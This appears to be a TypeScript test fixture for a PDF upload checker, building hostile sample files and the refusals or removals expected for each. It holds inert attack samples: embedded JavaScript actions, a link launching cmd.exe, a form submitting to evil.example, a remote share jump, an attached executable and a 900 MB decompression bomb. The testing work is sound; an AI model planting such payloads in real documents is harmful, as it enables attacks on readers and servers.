import { gzipSync } from 'node:zlib'
import { PDF } from '@libpdf/core'
import type { Finding } from '#modules/imports/pdf-check.ts'
import { bomb, handMadePdf, type Piece, pdfWith } from './hand-made-pdf.ts'
import { numbers } from './mutants.ts'

type Bytes = Uint8Array<ArrayBuffer>
type Refusal = Extract<Finding, { refused: unknown }>['refused']
type Removed = Extract<Finding, { pages: unknown }>['removed'][number]
type Repairs = Extract<Finding, { pages: unknown }>['repairs']

interface Hostile {
  what: string
  make: () => Bytes | Promise<Bytes>
  /** The expected refusals, or for an accepted file what is removed from it. */
  expected: Refusal[] | { removed: Removed[]; repairs?: Repairs }
}

const text = (words: string) => new Uint8Array(Buffer.from(words, 'latin1'))
const joinBytes = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts))
const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>]`
const FILE = { entries: '/Type /EmbeddedFile', data: text('MZ') }
const SPEC = '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>'
const UNREADABLE: Refusal[] = ['unreadable', 'disagreement']
const BROKEN_ANSWERS: Refusal[] = ['unreadable', 'stopped']

const taken = (removed: Removed[], make: () => Bytes, what: string): Hostile => ({
  what,
  make,
  expected: { removed },
})
const mended = (repairs: Repairs, make: Hostile['make'], what: string): Hostile => ({
  what,
  make,
  expected: { removed: [], repairs },
})
const refused = (expected: Refusal[], make: Hostile['make'], what: string): Hostile => ({
  what,
  make,
  expected,
})

const SIGNATURE =
  '/AcroForm << /SigFlags 3 /Fields [<< /FT /Sig /T (s) /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >> >>] >>'

/** A catalog with arrays nested `depth` deep. */
const nestedArrays = (depth: number) => pdfWith({ catalog: `/X ${'['.repeat(depth)}${']'.repeat(depth)}` })

/** A page tree whose nodes contain themselves or each other. */
const loop = (kids: string, count = 1) =>
  handMadePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
  ])

const chain = (length: number): Bytes => {
  const node = (next: number) => `<< /Type /Pages /Kids [${next} 0 R] /Count 1 >>`
  const pieces: Piece[] = ['<< /Type /Catalog /Pages 2 0 R >>']
  for (let n = 0; n < length; n++) pieces.push(node(n + 3))
  return handMadePdf([...pieces, '<< /Type /Page /MediaBox [0 0 9 9] >>'])
}

const xrefAt = (offset: string) =>
  text(
    Buffer.from(pdfWith())
      .toString('latin1')
      .replace(/startxref\n\d+/, `startxref\n${offset}`),
  )

/** A cross-reference table that names itself as its predecessor. */
function xrefLoop(): Bytes {
  const plainFile = Buffer.from(pdfWith()).toString('latin1')
  const tableOffset = /startxref\n(\d+)/.exec(plainFile)![1]!
  return text(plainFile.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${tableOffset}`))
}

/** An object stream that inflates to `megabytes`. */
function objectBomb(megabytes: number): Bytes {
  const head = Buffer.from('%PDF-1.7\n')
  const stream = (entries: string, data: Uint8Array) =>
    Buffer.concat([
      Buffer.from(`<< ${entries} /Length ${data.length} >>\nstream\n`),
      data,
      Buffer.from('\nendstream\nendobj\n'),
    ])
  const packed = Buffer.concat([
    Buffer.from('3 0 obj\n'),
    stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb(megabytes)),
  ])
  const packOffset = head.length + packed.length
  // Type, offset or stream, generation or index: object 1 is in stream 3.
  const rows = [
    [0, 0, 0],
    [2, 3, 0],
    [2, 3, 1],
    [1, head.length, 0],
    [1, packOffset, 0],
  ]
  const table = Buffer.from(
    rows.flatMap(([type, where, index]) => [type!, where! >> 16, (where! >> 8) & 255, where! & 255, index!]),
  )
  const xref = Buffer.concat([
    Buffer.from('4 0 obj\n'),
    stream('/Type /XRef /Size 5 /W [1 3 1] /Root 1 0 R', table),
  ])
  return new Uint8Array(Buffer.concat([head, packed, xref, Buffer.from(`startxref\n${packOffset}\n%%EOF\n`)]))
}

/** A file encrypted with a user password, or without one, so that every program opens it. */
async function encrypted(userPassword?: string): Promise<Bytes> {
  const pdf = await PDF.load(pdfWith())
  pdf.setProtection({ userPassword, ownerPassword: 'Lotus2026', permissions: { copy: false } })
  return new Uint8Array(await pdf.save())
}

/** A valid file with random changes, which repeat with the seed. */
export function mutant(seed: number): Bytes {
  const below = numbers(seed)
  let bytes = Buffer.from(pdfWith({ page: link(JS), more: [FILE], pages: 3 }))
  for (let n = 0; n <= below(20); n++) {
    const start = below(bytes.length)
    const end = Math.min(bytes.length, start + 1 + below(60))
    const piece = [
      Buffer.from([below(256)]),
      Buffer.alloc(0),
      bytes.subarray(0, end),
      bytes.subarray(start, end),
    ][below(4)]!
    bytes = Buffer.concat([bytes.subarray(0, start), piece, bytes.subarray(below(3) ? end : start)])
  }
  return new Uint8Array(bytes)
}

/** Hostile files of every kind. */
export const HOSTILE: Hostile[] = [
  refused(['type'], () => text(''), 'nothing'),
  refused(['type'], () => text('<html><script>alert(1)</script>'), 'a page named .pdf'),
  refused(['type'], () => text('MZ\x90\x00'), 'a program named .pdf'),
  refused(['type'], () => new Uint8Array(gzipSync(pdfWith())), 'a packed PDF'),
  mended(['structure'], () => joinBytes(text('<html><!--\n'), pdfWith()), 'a page before a PDF'),
  refused(UNREADABLE, () => text('%PDF-1.7\n'), 'a first line alone'),
  refused(UNREADABLE, () => text(`%PDF-1.7\n${'A'.repeat(100_000)}`), 'a first line and rubbish'),
  refused(UNREADABLE, () => pdfWith().slice(0, 400), 'half a file'),
  mended(['structure'], () => xrefAt('99999999'), 'a table beyond the end'),
  mended(['structure'], () => xrefAt('-1'), 'a table before the beginning'),
  mended(['structure'], xrefLoop, 'a table before itself'),
  refused(UNREADABLE, () => handMadePdf(['<< /Type /Catalog >>']), 'no pages at all'),
  refused(UNREADABLE, () => loop('', 0), 'an empty tree of pages'),
  refused(BROKEN_ANSWERS, () => loop('2 0 R'), 'pages that hold themselves'),
  refused(BROKEN_ANSWERS, () => loop('3 0 R'), 'pages that hold each other'),
  refused(BROKEN_ANSWERS, () => chain(50_000), 'pages 50,000 deep'),
  refused(BROKEN_ANSWERS, () => nestedArrays(100_000), 'arrays 100,000 deep'),
  refused(['pages'], () => pdfWith({ pages: 501 }), '501 pages'),
  refused(['pages', 'stopped'], () => pdfWith({ pages: 100_000 }), 'a hundred thousand pages'),
  refused(BROKEN_ANSWERS, () => objectBomb(900), 'objects that unpack to 900 MB'),
  refused(['encrypted'], () => encrypted('Lotus2026'), 'a password to open'),
  mended(['restrictions'], () => encrypted(), 'a password to change'),
  refused(['portfolio'], () => pdfWith({ catalog: '/Collection << /View /D >>' }), 'a portfolio'),
  refused(['dynamicForm'], () => pdfWith({ catalog: '/NeedsRendering true' }), 'pages made by a script'),
  refused(
    ['external'],
    () =>
      pdfWith({ catalog: '/X 10 0 R', more: [{ entries: '/F (http://evil.example/a)', data: text('') }] }),
    'content from elsewhere',
  ),
  refused(
    ['signed'],
    () => pdfWith({ catalog: `${SIGNATURE} /OpenAction ${JS}` }),
    'a script in a signed file',
  ),
  taken(
    ['multimedia'],
    () => pdfWith({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' }),
    'a film',
  ),
  taken(['scripts'], () => pdfWith({ catalog: `/OpenAction ${JS}` }), 'a script that opens'),
  taken(
    ['scripts'],
    () => pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${JS}] >> >>` }),
    'a named script',
  ),
  taken(['scripts'], () => pdfWith({ page: link(JS) }), 'a script behind a link'),
  taken(['actions'], () => pdfWith({ page: `/AA << /O ${JS} >>` }), 'a script on turning the page'),
  taken(['actions'], () => pdfWith({ page: link('<< /S /Launch /F (cmd.exe) >>') }), 'a program to start'),
  taken(
    ['actions'],
    () => pdfWith({ page: link('<< /S /URI /URI (javascript:alert\\(1\\)) >>') }),
    'a script as an address',
  ),
  taken(
    ['actions'],
    () => pdfWith({ page: link('<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>') }),
    'a jump to a share',
  ),
  taken(
    ['actions'],
    () => pdfWith({ page: link('<< /S /SubmitForm /F (http://evil.example) >>') }),
    'a form that sends',
  ),
  taken(
    ['scripts'],
    () => pdfWith({ page: link(`<< /S /GoTo /D [1] /Next ${JS} >>`) }),
    'a script behind a jump',
  ),
  taken(
    ['attachments'],
    () => pdfWith({ catalog: `/Names << /EmbeddedFiles << /Names [(a) ${SPEC}] >> >>`, more: [FILE] }),
    'an attached program',
  ),
  taken(['attachments'], () => pdfWith({ catalog: `/AF [${SPEC}]`, more: [FILE] }), 'an associated file'),
  taken(['dynamicForm'], () => pdfWith({ catalog: '/AcroForm << /Fields [] /XFA (x) >>' }), 'an XFA form'),
]

/**
 * Files that stay unchanged: with web links, jumps, large compressed contents that nothing needs, earlier
 * signatures.
 */
export const HARMLESS: { what: string; make: () => Bytes }[] = [
  { what: 'a plain file', make: () => pdfWith() },
  { what: '500 pages', make: () => pdfWith({ pages: 500 }) },
  {
    what: 'a link to the web',
    make: () => pdfWith({ page: link('<< /S /URI /URI (https://example.com) >>') }),
  },
  { what: 'a jump within', make: () => pdfWith({ catalog: '/OpenAction << /S /GoTo /D [11 0 R /Fit] >>' }) },
  { what: 'a signature', make: () => pdfWith({ catalog: SIGNATURE }) },
  {
    what: 'a picture that unpacks to 200 MB',
    make: () =>
      pdfWith({ catalog: '/X 10 0 R', more: [{ entries: '/Filter /FlateDecode', data: bomb(200) }] }),
  },
  {
    what: 'fonts and pictures named as actions are',
    make: () => pdfWith({ catalog: '/X << /AA 4 0 R /EF 3 0 R >>' }),
  },
]
